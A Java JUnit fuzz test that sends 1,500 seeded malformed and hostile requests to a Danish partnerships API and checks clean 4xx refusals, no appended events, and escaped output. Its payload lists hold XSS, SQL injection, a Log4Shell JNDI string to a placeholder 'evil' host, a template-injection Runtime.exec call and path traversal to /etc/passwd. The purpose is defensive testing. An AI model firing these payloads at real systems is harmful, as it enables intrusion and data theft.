package dk.partnerships.standalone;

import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.UUID;
import java.util.function.Function;
import java.util.stream.IntStream;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * 1,500 generated malformed or hostile requests across the API, signed in as a project lead of every department:
 * wrong types, missing and unknown fields, unknown enum values, impossible dates, huge strings and bodies, deep
 * JSON, invalid UTF-8, control characters, broken Unicode, script tags and SQL fragments, in bodies, paths, query
 * parameters and headers. Every one is answered below 500; every refusal is problem+json with a code and appends
 * nothing; whatever is accepted (hostile-looking text can be legitimate text) is shown escaped on the pages.
 * <p>
 * Generated from a seed, so a failure is reproducible: {@code -Dhostile.seed=<the seed printed in the test names>}.
 */
class HostileInputTest extends StandaloneHttpTest {

    private static final long SEED = Long.getLong("hostile.seed", System.nanoTime());
    private static final int WRITES = 1_200;
    private static final int READS = 300;

    private static final List<String> HOSTILE_TEXT = List.of(
            "<script>alert('x')</script>", "\"><img src=x onerror=alert(1)>", "'; DROP TABLE domain_event_entry; --",
            "' OR '1'='1", "Robert'); DELETE FROM partnership_summary;--", "${jndi:ldap://evil/x}", "{{7*7}}",
            "[[${7*7}]]", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x", "=HYPERLINK(\"http://evil\")",
            "\u202Egnp.exe", "👩‍💻 Ærø Øresund Åbenrå", "../../../etc/passwd", "%00%27", "\\u0000");
    /** Text the product must refuse wherever it appears. */
    private static final List<String> BROKEN_TEXT = List.of("nul\u0000byte", "escape\u001B[31mred", "bell\u0007",
            "half \uD800 pair", "reversed \uDC00", "delete\u007F");

    private record Endpoint(String name, String path, Map<String, Object> validBody) {
    }

    private record Request(String description, String method, String path, String contentType, byte[] body,
                           List<String> headers) {
    }

    private String partnershipId;

    private List<Endpoint> endpoints() {
        String id = partnershipId;
        return List.of(
                new Endpoint("propose", "/api/partnerships", proposal("Fjendtlig idé", "OPI", "SUF", "2024-01-10")),
                new Endpoint("stage", "/api/partnerships/" + id + "/stage-transitions",
                        new LinkedHashMap<>(Map.of("to", "MARKET_DIALOGUE", "reason", "Videre", "effectiveDate", "2024-02-01"))),
                new Endpoint("award", "/api/partnerships/" + id + "/award", new LinkedHashMap<>(Map.of("supplier", "A/S",
                        "valueDkk", 1000, "buyers", List.of("KK"), "buyerCount", 1, "frameworkAgreement", false))),
                new Endpoint("pilot", "/api/partnerships/" + id + "/pilot-outcome",
                        new LinkedHashMap<>(Map.of("outcome", "SUCCEEDED", "findings", "Virker"))),
                new Endpoint("readiness", "/api/partnerships/" + id + "/readiness-items",
                        new LinkedHashMap<>(Map.of("type", "COMPETENCE", "description", "Kursus", "owner", "Driften"))),
                new Endpoint("resolve", "/api/partnerships/" + id + "/readiness-items/" + UUID.randomUUID() + "/resolution",
                        new LinkedHashMap<>(Map.of("note", "Klaret"))),
                new Endpoint("evaluation", "/api/partnerships/" + id + "/evaluation", new LinkedHashMap<>(Map.of(
                        "summary", "God", "benefitsExpected", "Mere", "benefitsRealised", "Mere"))),
                new Endpoint("complete", "/api/partnerships/" + id + "/complete", new LinkedHashMap<>()),
                new Endpoint("lesson", "/api/partnerships/" + id + "/lessons",
                        new LinkedHashMap<>(Map.of("text", "Tal med driften", "tags", List.of("drift")))),
                new Endpoint("hold", "/api/partnerships/" + id + "/hold", new LinkedHashMap<>(Map.of("reason", "Budget"))),
                new Endpoint("resume", "/api/partnerships/" + id + "/resume", new LinkedHashMap<>(Map.of("reason", "Penge"))),
                new Endpoint("abandon", "/api/partnerships/" + id + "/abandon", new LinkedHashMap<>(Map.of("reason", "Stop"))),
                new Endpoint("erase", "/api/people/" + UUID.randomUUID(), Map.of()));
    }

    @TestFactory
    Stream<DynamicTest> hostile_requests_are_answered_cleanly_and_append_nothing() {
        Random random = new Random(SEED);
        return IntStream.range(0, WRITES + READS).mapToObj(n -> {
            // Generated lazily, once the product and the target partnership exist.
            return DynamicTest.dynamicTest("seed " + SEED + " #" + n, () -> {
                if (partnershipId == null) {
                    Http.Response proposed = http.post("/api/partnerships", proposal("Mål for fjendtlige forespørgsler", "OPI", "SUF", "2024-01-10"));
                    partnershipId = proposed.json().get("id").asString();
                    awaitAllProjected();
                }
                Request request = n < WRITES ? write(random) : read(random);
                check(request);
            });
        });
    }

    private void check(Request request) {
        long before = events();
        List<String> headers = new ArrayList<>(request.headers());
        if (request.contentType() != null) {
            headers.add("Content-Type");
            headers.add(request.contentType());
        }
        Http.Response answer = http.send(request.method(), request.path(), request.body(), headers.toArray(String[]::new));
        String what = request.description() + " → " + answer.status() + " " + abbreviate(answer.body());
        assertThat(answer.status()).as(what).isBetween(200, 499);
        if (answer.status() >= 400) {
            assertThat(answer.contentType()).as(what).startsWith("application/problem+json");
            assertThat(answer.code()).as(what).isNotBlank();
            assertThat(events()).as("nothing appended: " + what).isEqualTo(before);
        } else if (request.method().equals("POST") && answer.status() < 300) {
            // Accepted: what was written is text of the partnership, and every page shows it escaped.
            String id = answer.json().path("id").asString(partnershipId);
            long version = answer.json().path("version").asLong(1);
            for (String page : List.of("/partnerships/" + id + "?minVersion=" + version, "/partnerships/" + id + "/history",
                    "/partnerships", "/lessons")) {
                String body = http.get(page).body();
                assertThat(body).as(page + " after " + what).doesNotContain("<script>alert(").doesNotContain("<img src=x");
            }
        }
    }

    private Request write(Random random) {
        List<Endpoint> endpoints = endpoints();
        Endpoint endpoint = endpoints.get(random.nextInt(endpoints.size()));
        String method = endpoint.name().equals("erase") ? "DELETE" : "POST";
        String path = endpoint.path();
        if (random.nextInt(8) == 0 && !endpoint.name().equals("propose")) {
            String hostileId = pick(random, List.of("x", "'%20OR%201=1%20--", "%3Cscript%3E", "..%2F..%2Fetc",
                    "a".repeat(300), UUID.randomUUID().toString(), "%00", "%C3%28", "..;", "%2e%2e"));
            path = path.replace(partnershipId, hostileId);
        }
        Map<String, Object> body = new LinkedHashMap<>(endpoint.validBody());
        String contentType = "application/json";
        List<String> headers = new ArrayList<>();
        byte[] raw = null;
        String description;
        switch (random.nextInt(13)) {
            case 0 -> { // a string field gets hostile or huge text
                String field = stringField(body, random);
                Object value = random.nextBoolean() ? pick(random, HOSTILE_TEXT)
                        : "x".repeat(pick(random, List.of(201, 4001, 50_000, 300_000)));
                body.put(field == null ? "title" : field, value);
                description = "hostile text in " + field;
            }
            case 1 -> { // control characters or broken Unicode
                String field = stringField(body, random);
                body.put(field == null ? "title" : field, pick(random, BROKEN_TEXT));
                description = "broken text in " + field;
            }
            case 2 -> { // wrong type
                String field = body.isEmpty() ? "effectiveDate" : pick(random, new ArrayList<>(body.keySet()));
                body.put(field, pick(random, List.of(123, 1.5, true, List.of(1, 2), Map.of("a", 1), -1)));
                description = "wrong type for " + field;
            }
            case 3 -> { // missing field
                if (!body.isEmpty()) {
                    body.remove(pick(random, new ArrayList<>(body.keySet())));
                }
                body.put("effectiveDate", "2024-02-30");
                description = "missing field and impossible date";
            }
            case 4 -> {
                body.put(pick(random, List.of("__proto__", "userId", "X-User", "constructor", "id", "version")), "hijack");
                description = "unknown field";
            }
            case 5 -> {
                String enumField = pick(random, List.of("kind", "to", "outcome", "type"));
                body.put(enumField, pick(random, List.of("DELETE", "idea", "", "PILOT; DROP TABLE x", "ⅰ")));
                description = "unknown enum value in " + enumField;
            }
            case 6 -> {
                body.put("effectiveDate", pick(random, List.of("2024-02-30", "yesterday", "0000-01-01", "+999999999-12-31",
                        "2024-1-1", "1899-12-31", "0024-03-01", "2999-01-01", "2024-02-01T10:00:00Z", "")));
                description = "bad date " + body.get("effectiveDate");
            }
            case 7 -> {
                String text = pick(random, List.of("", "null", "[]", "{", "{\"title\":", "{} {}", "\"just a string\"",
                        "[".repeat(50_000), "{\"a\":".repeat(2_000) + "1" + "}".repeat(2_000), "\uFEFF{}", "<xml/>"));
                raw = text.getBytes(StandardCharsets.UTF_8);
                description = "malformed JSON " + abbreviate(text);
            }
            case 8 -> {
                raw = new byte[]{'{', '"', 't', 'i', 't', 'l', 'e', '"', ':', '"', (byte) 0xC3, (byte) 0x28, (byte) 0xFF, '"', '}'};
                description = "invalid UTF-8";
            }
            case 9 -> {
                contentType = pick(random, List.of("text/plain", "application/xml", "application/x-www-form-urlencoded",
                        "multipart/form-data; boundary=x", "application/json; charset=ISO-8859-1"));
                description = "content type " + contentType;
            }
            case 10 -> {
                headers.add(pick(random, List.of("If-Match", "Idempotency-Key", "X-Correlation-Id")));
                headers.add(pick(random, List.of("\"abc\"", "*", "\"-1\"", "x".repeat(5000), "a b", "\"99999999999999999999\"", "'\"")));
                description = "bad header " + headers.get(0);
            }
            case 11 -> {
                List<String> many = IntStream.range(0, pick(random, List.of(51, 1000, 20_000))).mapToObj(i -> "Part " + i).toList();
                body.put(pick(random, List.of("partners", "buyers", "tags")), many);
                description = "huge list";
            }
            default -> {
                body.put(pick(random, List.of("valueDkk", "expectedValueDkk", "buyerCount")),
                        pick(random, List.of(-5, 1e300, "1e400", 12345678901234567890.0, Long.MAX_VALUE, "NaN")));
                description = "bad number";
            }
        }
        if (raw == null) {
            raw = Http.JSON.writeValueAsString(body).getBytes(StandardCharsets.UTF_8);
        }
        return new Request(endpoint.name() + " " + method + " " + abbreviate(path) + ": " + description, method, path,
                contentType, raw, headers);
    }

    private Request read(Random random) {
        String hostile = java.net.URLEncoder.encode(pick(random, HOSTILE_TEXT), StandardCharsets.UTF_8);
        String path = pick(random, List.<Function<String, String>>of(
                v -> "/api/partnerships?stage=" + v,
                v -> "/api/partnerships?limit=" + pick(random, List.of("-1", "abc", "999999999", "0")),
                v -> "/api/partnerships?department=" + v,
                v -> "/api/partnerships/" + v,
                v -> "/api/partnerships/" + partnershipId + "?asOf=" + v,
                v -> "/api/partnerships/" + partnershipId + "?knownAt=" + v,
                v -> "/api/partnerships/" + partnershipId + "?minVersion=" + pick(random, List.of("-3", "abc", "1e9")),
                v -> "/api/partnerships/" + partnershipId + "/diff?from=" + v + "&to=2024-01-01",
                v -> "/api/lessons?q=" + v + "&limit=" + pick(random, List.of("5", "-1", "x")),
                v -> "/api/lessons?q=" + "%F0%9F%92%A9".repeat(pick(random, List.of(1, 500))),
                v -> "/api/dashboard/lifecycle?year=" + v,
                v -> "/api/dashboard/implementation-gap?days=" + pick(random, List.of("-1", "x", "99999999999")),
                v -> "/api/dashboard/lifecycle?format=csv&table=" + v,
                v -> "/api/exports/ocds?since=" + v,
                v -> "/api/people?id=" + v,
                v -> "/api/partnerships/" + partnershipId + "/history/export?format=" + v,
                v -> "/api/" + v,
                v -> "/api/partnerships/" + partnershipId + "/nothing-here")).apply(hostile);
        String method = pick(random, List.of("GET", "GET", "GET", "PUT", "PATCH", "DELETE", "OPTIONS"));
        return new Request("read " + method + " " + path, method, path, null, new byte[0], List.of());
    }

    private static String stringField(Map<String, Object> body, Random random) {
        List<String> fields = body.entrySet().stream().filter(e -> e.getValue() instanceof String)
                .map(Map.Entry::getKey).filter(k -> !k.equals("effectiveDate")).toList();
        return fields.isEmpty() ? null : pick(random, fields);
    }

    private long events() {
        return jdbc.sql("SELECT count(*) FROM domain_event_entry").query(Long.class).single();
    }

    private static <T> T pick(Random random, List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    private static String abbreviate(String text) {
        String oneLine = text == null ? "" : text.replaceAll("\\s+", " ");
        return oneLine.length() > 200 ? oneLine.substring(0, 200) + "…" : oneLine;
    }
}
